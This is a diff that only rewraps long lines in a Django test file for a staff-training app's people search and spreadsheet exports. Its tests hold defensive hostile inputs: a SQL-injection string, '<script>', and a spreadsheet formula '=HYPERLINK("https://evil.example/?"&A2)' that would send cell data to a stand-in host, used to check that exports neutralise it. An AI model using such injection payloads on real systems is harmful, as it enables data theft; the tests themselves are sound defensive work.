@@ -39,13 +39,19 @@ def test_marks_and_capitals_do_not_matter(written: str, plain: str) -> None:
     assert folded(written) == plain
 
 
-@given(st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=30))
+@given(
+    st.text(
+        alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=30
+    )
+)
 def test_folding_twice_changes_nothing_more_for_names_in_latin_script(text: str) -> None:
     latin = "".join(letter for letter in text if letter < "\u0250")
     assert folded(folded(latin)) == folded(latin)
 
 
-@pytest.mark.parametrize("name", ["Łukasz Żółć", "Ștefan Popescu", "مُحَمَّد", "Søren Ångström", "José O’Neill"])
+@pytest.mark.parametrize(
+    "name", ["Łukasz Żółć", "Ștefan Popescu", "مُحَمَّد", "Søren Ångström", "José O’Neill"]
+)
 def test_the_database_folds_as_the_rule_does(name: str) -> None:
     someone = person(name, email="someone@example.org")
     rows = type(someone).objects.get_queryset().annotate(plain=Folded("name"))
@@ -56,8 +62,12 @@ def test_the_database_folds_as_the_rule_does(name: str) -> None:
 def hotel(cast: Cast) -> Cast:
     """Amina (night porter), Łukasz (agency, day, Polish, number PL-07), Bogdan (certified)."""
     require(cast.area, cast.course)
-    lukasz = worker(cast.workplace, name="Łukasz Żółć", shift="day", is_agency=True, staff_number="PL-07")
-    type(lukasz).objects.filter(pk=lukasz.pk).update(preferred_language="pl", learner_id="K7M4-QP2X")
+    lukasz = worker(
+        cast.workplace, name="Łukasz Żółć", shift="day", is_agency=True, staff_number="PL-07"
+    )
+    type(lukasz).objects.filter(pk=lukasz.pk).update(
+        preferred_language="pl", learner_id="K7M4-QP2X"
+    )
     certify(worker(cast.workplace, name="Bogdan 100%"), cast.course, on=timezone.localdate())
     return cast
 
@@ -88,15 +98,29 @@ def names(client: Client, **query: Any) -> set[str]:
         ({"q": "  "}, {"Amina Yusuf", "Bogdan 100%", "Łukasz Żółć"}),
     ],
 )
-def test_people_are_found(client: Client, hotel: Cast, query: dict[str, str], found: set[str]) -> None:
+def test_people_are_found(
+    client: Client, hotel: Cast, query: dict[str, str], found: set[str]
+) -> None:
     assert names(sign_in(client, hotel.bruno), **query) == found
 
 
-HOSTILE = ("'; DROP TABLE x;--", "\ud800", "<script>", "%00", "x" * 5000, "🙂" * 300, "\\", "[a-", "\u202e")
+HOSTILE = (
+    "'; DROP TABLE x;--",
+    "\ud800",
+    "<script>",
+    "%00",
+    "x" * 5000,
+    "🙂" * 300,
+    "\\",
+    "[a-",
+    "\u202e",
+)
 
 
 @pytest.mark.parametrize("name", ["q", "role", "language", "course"])
-def test_hostile_words_find_nobody_and_break_nothing(client: Client, hotel: Cast, name: str) -> None:
+def test_hostile_words_find_nobody_and_break_nothing(
+    client: Client, hotel: Cast, name: str
+) -> None:
     sign_in(client, hotel.bruno)
     for hostile in HOSTILE:
         for address in ("/manage/people.csv", "/manage/history/"):
@@ -108,15 +132,21 @@ def test_hostile_words_find_nobody_and_break_nothing(client: Client, hotel: Cast
 
 
 def test_what_is_asked_stays_in_links_and_forms(client: Client, hotel: Cast) -> None:
-    page = sign_in(client, hotel.bruno).get("/manage/", {"q": "luk", "shift": "day", "standing": "overdue"})
+    page = sign_in(client, hotel.bruno).get(
+        "/manage/", {"q": "luk", "shift": "day", "standing": "overdue"}
+    )
     text = page.content.decode()
     assert 'value="luk"' in text
     assert '<option value="day" selected>' in text
     assert "standing=overdue&amp;shift=day&amp;q=luk" in text
-    assert {chip["query"] for chip in page.context["chips"] if "shift=day" not in chip["query"]} == set()
+    assert {
+        chip["query"] for chip in page.context["chips"] if "shift=day" not in chip["query"]
+    } == set()
 
 
-def test_the_fragment_is_only_the_results_with_the_same_refusals(client: Client, hotel: Cast) -> None:
+def test_the_fragment_is_only_the_results_with_the_same_refusals(
+    client: Client, hotel: Cast
+) -> None:
     headers = {"HX-Request": "true"}
     fragment = sign_in(client, hotel.bruno).get("/manage/", {"q": "luk"}, headers=headers)
     assert "<html" not in fragment.content.decode()
@@ -163,7 +193,9 @@ def test_a_manager_sees_no_name_of_a_place_above_their_own(client: Client, hotel
     assert "Thurrock" not in page.content.decode()
 
 
-def test_the_workbook_has_dates_a_fixed_header_and_runs_nothing(client: Client, hotel: Cast) -> None:
+def test_the_workbook_has_dates_a_fixed_header_and_runs_nothing(
+    client: Client, hotel: Cast
+) -> None:
     worker(hotel.workplace, name="=1+1\x0b")
     today = timezone.localdate()
     response = sign_in(client, hotel.bruno).get("/manage/people.xlsx")
@@ -181,7 +213,9 @@ def test_the_workbook_has_dates_a_fixed_header_and_runs_nothing(client: Client, 
 
 
 @pytest.mark.parametrize("sign", ["\x01", "\x0b", "\x1f", " \x02 "])
-def test_nothing_runs_that_hid_behind_a_control_sign(client: Client, hotel: Cast, sign: str) -> None:
+def test_nothing_runs_that_hid_behind_a_control_sign(
+    client: Client, hotel: Cast, sign: str
+) -> None:
     """In the workbook, where no such sign may stand, and in the file for every other program."""
     worker(hotel.workplace, name=f'{sign}=HYPERLINK("https://evil.example/?"&A2)')
     sign_in(client, hotel.bruno)
@@ -193,7 +227,9 @@ def test_nothing_runs_that_hid_behind_a_control_sign(client: Client, hotel: Cast
     assert name.startswith("'")
 
 
-def test_the_workbook_runs_right_to_left_in_urdu_and_keeps_the_filters(client: Client, hotel: Cast) -> None:
+def test_the_workbook_runs_right_to_left_in_urdu_and_keeps_the_filters(
+    client: Client, hotel: Cast
+) -> None:
     sign_in(client, hotel.bruno)
     response = client.get("/manage/people.xlsx", {"q": "zolc"}, headers={"accept-language": "ur"})
     sheet = load_workbook(io.BytesIO(b"".join(response))).active
@@ -202,10 +238,14 @@ def test_the_workbook_runs_right_to_left_in_urdu_and_keeps_the_filters(client: C
     assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Łukasz Żółć"]
 
 
-def test_files_cost_the_same_for_ten_as_for_one(client: Client, cast: Cast, assert_constant_queries: Any) -> None:
+def test_files_cost_the_same_for_ten_as_for_one(
+    client: Client, cast: Cast, assert_constant_queries: Any
+) -> None:
     require(cast.area, cast.course)
     sign_in(client, cast.bruno)
-    assert_constant_queries(lambda: worker(cast.workplace), lambda: b"".join(client.get("/manage/people.xlsx")))
+    assert_constant_queries(
+        lambda: worker(cast.workplace), lambda: b"".join(client.get("/manage/people.xlsx"))
+    )
 
 
 def test_an_exemption_that_ended_and_one_that_binds(client: Client, hotel: Cast) -> None:
